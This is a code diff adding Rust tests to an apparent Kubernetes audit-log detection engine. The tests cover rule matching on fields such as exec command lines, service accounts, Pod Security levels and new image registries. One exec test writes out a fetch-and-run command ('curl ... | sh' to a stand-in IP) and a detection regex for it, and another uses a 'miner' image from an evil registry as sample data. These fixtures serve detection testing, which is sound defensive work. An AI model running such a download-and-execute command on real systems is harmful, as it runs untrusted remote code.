@@ -3,7 +3,7 @@
 
 mod common;
 
-use common::{audit, image, pod_spec};
+use common::{audit, falco, image, pod_spec};
 use detect::{DetectError, Engine, LintSeverity, RuleSet, lint};
 use event::{ActorKind, Event};
 use serde_json::json;
@@ -560,5 +560,362 @@ fn readme_rule_example_compiles_and_matches() {
     assert_eq!(
         alerts[0].summary,
         "mallory@example.com ran patch on configmap kube-system/-"
+    );
+}
+
+/// The alerts of a one-rule document (rule `t.rule`) over `events`, through a `Detector`.
+fn detector_alerts(rule: &str, events: &[Event]) -> Vec<event::Alert> {
+    let rules = RuleSet::from_yaml(rule, "test.yaml").unwrap_or_else(|error| panic!("{error}"));
+    let engine = std::sync::Arc::new(Engine::new(rules));
+    let mut detector = detect::Detector::new(engine, detect::StateLimits::default());
+    let mut alerts = Vec::new();
+    detector.process_batch(events, &mut alerts);
+    alerts
+}
+
+#[test]
+fn equals_field_compares_two_fields() {
+    let sa = |namespace: &str| {
+        audit("get", "secrets")
+            .user(
+                "system:serviceaccount:team-a:app",
+                ActorKind::Serviceaccount,
+            )
+            .namespace(Some(namespace))
+    };
+    let same = "      {field: namespace, equals_field: sa_namespace}";
+    assert!(matches(same, sa("team-a")));
+    assert!(!matches(same, sa("payments")));
+    // A missing field on either side fails the test, so `not` holds.
+    assert!(!matches(same, audit("get", "secrets")));
+    assert!(matches(
+        "      not: {field: namespace, equals_field: sa_namespace}",
+        audit("get", "secrets")
+    ));
+    assert!(!matches(same, sa("team-a").namespace(None)));
+    // Lists: some value of one equals some value of the other; numbers by value.
+    let raw = || {
+        audit("create", "pods").raw(json!({"requestObject": {
+            "a": [1, 2, 3], "b": 3.0, "c": "x", "d": {"k": [1]}, "e": {"k": [1]}, "f": "3"
+        }}))
+    };
+    assert!(matches(
+        "      {field: raw.requestObject.a, equals_field: raw.requestObject.b}",
+        raw()
+    ));
+    assert!(!matches(
+        "      {field: raw.requestObject.a, equals_field: raw.requestObject.c}",
+        raw()
+    ));
+    assert!(!matches(
+        "      {field: raw.requestObject.b, equals_field: raw.requestObject.f}",
+        raw()
+    ));
+    assert!(matches(
+        "      {field: raw.requestObject.d, equals_field: raw.requestObject.e}",
+        raw()
+    ));
+    // Inside `for_any`, both fields read the bound element.
+    let images = audit("create", "pods")
+        .image(image("a.io/x:1", "a.io", "x", Some("1"), None))
+        .image(image("b.io/y:2", "b.io", "y", Some("2"), None))
+        .namespace(Some("b.io"));
+    assert!(matches(
+        "      for_any: images\n      where:\n        all:\n          - {field: images.registry, equals_field: namespace}\n          - {field: images.tag, equals: \"2\"}",
+        images
+    ));
+    // The other field joins the alert's default fields.
+    let rules = RuleSet::from_yaml(&rule_with(same), "t").unwrap();
+    let mut alerts = Vec::new();
+    Engine::new(rules).evaluate(&sa("team-a").into(), &mut alerts);
+    assert_eq!(alerts[0].fields["sa_namespace"], "team-a");
+    assert_eq!(alerts[0].fields["namespace"], "team-a");
+    // Errors.
+    assert!(
+        compile_error(&rule_with(
+            "      {field: namespace, equals_field: $system_namespaces}"
+        ))
+        .contains("takes a field name, not a list")
+    );
+    assert!(
+        compile_error(&rule_with("      {field: namespace, equals_field: nope}"))
+            .contains("unknown field `nope`")
+    );
+    assert!(
+        compile_error(&rule_with("      {field: namespace, equals_field: [a, b]}"))
+            .contains("takes a field name")
+    );
+}
+
+#[test]
+fn service_account_fields_come_from_the_user_name() {
+    let sa = |user: &str| audit("get", "pods").user(user, ActorKind::Serviceaccount);
+    let event = || sa("system:serviceaccount:team-a:app");
+    assert!(matches(
+        "      {field: sa_namespace, equals: team-a}",
+        event()
+    ));
+    assert!(matches("      {field: sa_name, equals: app}", event()));
+    for user in [
+        "alice@example.com",
+        "system:serviceaccount:team-a",
+        "system:serviceaccount::app",
+        "system:node:worker-1",
+    ] {
+        assert!(
+            matches("      {field: sa_namespace, exists: false}", sa(user)),
+            "{user}"
+        );
+        assert!(
+            matches("      {field: sa_name, exists: false}", sa(user)),
+            "{user}"
+        );
+    }
+}
+
+#[test]
+fn exec_command_line_joins_the_arguments() {
+    let exec = || {
+        audit("create", "pods").subresource("exec").exec(&[
+            "sh",
+            "-c",
+            "curl -s http://203.0.113.9/x | sh",
+        ])
+    };
+    assert!(matches(
+        "      {field: exec_command_line, equals: \"sh -c curl -s http://203.0.113.9/x | sh\"}",
+        exec()
+    ));
+    assert!(matches(
+        "      {field: exec_command_line, contains: \"-c curl\"}",
+        exec()
+    ));
+    assert!(matches(
+        "      {field: exec_command_line, regex: 'sh -c .*\\| *sh$'}",
+        exec()
+    ));
+    // Argument by argument, `-c curl` is in none of them.
+    assert!(!matches(
+        "      {field: exec_command, contains: \"-c curl\"}",
+        exec()
+    ));
+    assert!(matches(
+        "      {field: exec_command_line, exists: false}",
+        audit("get", "pods")
+    ));
+    let rules = RuleSet::from_yaml(
+        "rules:\n  - {id: t.rule, title: t, severity: low, condition: {field: exec_command_line, exists: true}, summary: \"ran {exec_command_line}\"}\n",
+        "t",
+    )
+    .unwrap();
+    let mut alerts = Vec::new();
+    Engine::new(rules).evaluate(&exec().into(), &mut alerts);
+    assert_eq!(
+        alerts[0].summary,
+        "ran sh -c curl -s http://203.0.113.9/x | sh"
+    );
+    assert_eq!(
+        alerts[0].fields["exec_command_line"],
+        "sh -c curl -s http://203.0.113.9/x | sh"
+    );
+}
+
+#[test]
+fn source_ip_last_is_the_connection_address() {
+    let mut event: Event = audit("get", "pods").into();
+    event.source_ips = vec!["10.0.0.1".to_owned(), "198.51.100.7".to_owned()];
+    assert!(matches(
+        "      {field: source_ip_last, equals: 198.51.100.7}",
+        event.clone()
+    ));
+    assert!(matches(
+        "      {field: source_ips, cidr: 10.0.0.0/8}",
+        event.clone()
+    ));
+    assert!(!matches(
+        "      {field: source_ip_last, cidr: 10.0.0.0/8}",
+        event.clone()
+    ));
+    event.source_ips.clear();
+    assert!(matches(
+        "      {field: source_ip_last, exists: false}",
+        event
+    ));
+}
+
+#[test]
+fn pod_security_levels_come_from_the_annotations() {
+    let annotated = |annotations: serde_json::Value| {
+        audit("create", "pods").raw(json!({"kind": "Event", "annotations": annotations}))
+    };
+    let both = || {
+        annotated(json!({
+            "pod-security.kubernetes.io/enforce-policy": "baseline:v1.31",
+            "pod-security.kubernetes.io/audit-violations": "would violate PodSecurity \"restricted:latest\": runAsNonRoot != true (pod must set securityContext.runAsNonRoot=true)"
+        }))
+    };
+    assert!(matches(
+        "      {field: psa_audit_level, equals: restricted}",
+        both()
+    ));
+    assert!(matches(
+        "      {field: psa_enforce_level, equals: baseline}",
+        both()
+    ));
+    let none = || annotated(json!({"authorization.k8s.io/decision": "allow"}));
+    assert!(matches(
+        "      {field: psa_audit_level, exists: false}",
+        none()
+    ));
+    assert!(matches(
+        "      {field: psa_enforce_level, exists: false}",
+        none()
+    ));
+    assert!(matches(
+        "      {field: psa_audit_level, exists: false}",
+        annotated(json!({"pod-security.kubernetes.io/audit-violations": "something else"}))
+    ));
+    // The built-in violation rules report them.
+    let mut event: Event = both().into();
+    event.user = Some("alice@example.com".to_owned());
+    event.psa_violations =
+        vec!["runAsNonRoot != true (pod must set securityContext.runAsNonRoot=true)".to_owned()];
+    let alerts = common::alerts_for(&event);
+    let alert = alerts
+        .iter()
+        .find(|alert| alert.rule_id == "k8s.psa_restricted_violation")
+        .expect("the restricted violation rule fires");
+    assert_eq!(alert.fields["psa_audit_level"], "restricted");
+    assert_eq!(alert.fields["psa_enforce_level"], "baseline");
+}
+
+#[test]
+fn image_registries_added_are_the_registries_of_new_images() {
+    let rule = "rules:\n  - id: t.rule\n    title: t\n    severity: low\n    condition:\n      all:\n        - {field: verb, in: [create, update, patch]}\n        - {field: changes.image_registries_added, exists: true}\n        - not: {field: changes.image_registries_added, in: $trusted_registries}\n    fields: [changes.images_added, changes.image_registries_added]\n";
+    let write = |verb: &str, images: &[&str]| -> Event {
+        let containers: Vec<(&str, &str, Option<bool>)> =
+            images.iter().map(|image| ("c", *image, None)).collect();
+        let mut event: Event = audit(verb, "deployments")
+            .name("web")
+            .pod(pod_spec("Deployment", &containers))
+            .into();
+        // One container name per image.
+        for (index, container) in event.pod_specs[0].containers.iter_mut().enumerate() {
+            container.name = format!("c{index}");
+        }
+        event
+    };
+    let events = [
+        write("create", &["nginx:1.27"]),
+        write("update", &["nginx:1.28"]),
+        write(
+            "update",
+            &[
+                "nginx:1.28",
+                "evil.example:5000/miner:1",
+                "evil.example:5000/x:2",
+            ],
+        ),
+    ];
+    let alerts = detector_alerts(rule, &events);
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    assert_eq!(
+        alerts[0].fields["changes.image_registries_added"],
+        json!(["evil.example:5000"])
+    );
+    assert_eq!(
+        alerts[0].fields["changes.images_added"],
+        json!(["evil.example:5000/miner:1", "evil.example:5000/x:2"])
+    );
+}
+
+#[test]
+fn a_sequence_across_sources_is_a_correlation_alert() {
+    let rule = "rules:\n  - id: t.rule\n    title: t\n    severity: low\n    stages: [ResponseStarted, ResponseComplete]\n    condition: {field: subresource, equals: exec}\n    sequence:\n      within: 5m\n      by: [namespace, name]\n      then:\n        - condition: {any: [{field: falco_rule, exists: true}, {field: verb, equals: delete}]}\n          by: [namespace, pod_name]\n";
+    let exec: Event = audit("create", "pods")
+        .subresource("exec")
+        .name("web-0")
+        .into();
+    let mut shell: Event = falco("Terminal shell in container", "Notice").into();
+    shell.time = exec.time + 1_000_000;
+    shell.event_id = "f".repeat(32);
+    let alerts = detector_alerts(rule, &[exec.clone(), shell]);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(alerts[0].source, event::AlertSource::Correlation);
+    // Every step from audit events: an audit alert.
+    let mut delete: Event = audit("delete", "pods").into();
+    delete.time = exec.time + 1_000_000;
+    delete.event_id = "d".repeat(32);
+    delete.pod_name = Some("web-0".to_owned());
+    let alerts = detector_alerts(rule, &[exec, delete]);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(alerts[0].source, event::AlertSource::K8sAudit);
+}
+
+#[test]
+fn raw_shortcuts_do_not_change_results() {
+    // A value spelled with JSON escapes still matches (the text search cannot see it, so the
+    // document is parsed).
+    let escaped = |body: &str| {
+        let mut event: Event = audit("create", "services").into();
+        event.raw = format!(r#"{{"requestObject":{body}}}"#);
+        event
+    };
+    let node_port = "      {field: raw.requestObject.spec.type, equals: NodePort}";
+    assert!(matches(
+        node_port,
+        escaped(r#"{"spec":{"type":"NodePort"}}"#)
+    ));
+    assert!(matches(
+        node_port,
+        escaped(r#"{"spec":{"type":"\u004eodePort"}}"#)
+    ));
+    assert!(matches(
+        node_port,
+        escaped(r#"{"spec":{"\u0074ype":"NodePort"}}"#)
+    ));
+    assert!(!matches(
+        node_port,
+        escaped(r#"{"spec":{"type":"ClusterIP"}}"#)
+    ));
+    let path = "      {field: raw.requestObject.rules.resources, in: [pods/exec]}";
+    assert!(matches(
+        path,
+        escaped(r#"{"rules":[{"resources":["pods\/exec"]}]}"#)
+    ));
+    assert!(matches(
+        path,
+        escaped(r#"{"rules":[{"resources":["pods/exec"]}]}"#)
+    ));
+    assert!(!matches(
+        path,
+        escaped(r#"{"rules":[{"resources":["pods/log"]}]}"#)
+    ));
+    // A test on a path needs its last key in the text.
+    let external = "      {field: raw.requestObject.spec.externalIPs, regex: '.'}";
+    assert!(matches(
+        external,
+        escaped(r#"{"spec":{"externalIPs":["1.2.3.4"]}}"#)
+    ));
+    assert!(!matches(
+        external,
+        escaped(r#"{"spec":{"ports":[{"port":80}]}}"#)
+    ));
+    // Only the paths rules read are parsed, but a path's value is kept whole: an alert field
+    // naming an object shows all of it, next to a condition reading inside it.
+    let rule = "rules:\n  - id: t.rule\n    title: t\n    severity: low\n    condition: {field: raw.requestObject.metadata.labels.app, equals: web}\n    fields: [raw.requestObject.metadata, raw.requestObject.spec.ports.port]\n";
+    let event = escaped(
+        r#"{"metadata":{"name":"web","labels":{"app":"web"},"annotations":{"a":"b"}},"spec":{"type":"ClusterIP","ports":[{"port":80},{"port":443}]},"status":{"x":1}}"#,
+    );
+    let mut alerts = Vec::new();
+    Engine::new(RuleSet::from_yaml(rule, "t").unwrap()).evaluate(&event, &mut alerts);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(
+        alerts[0].fields["raw.requestObject.metadata"],
+        json!({"name": "web", "labels": {"app": "web"}, "annotations": {"a": "b"}})
+    );
+    assert_eq!(
+        alerts[0].fields["raw.requestObject.spec.ports.port"],
+        json!([80, 443])
     );
 }
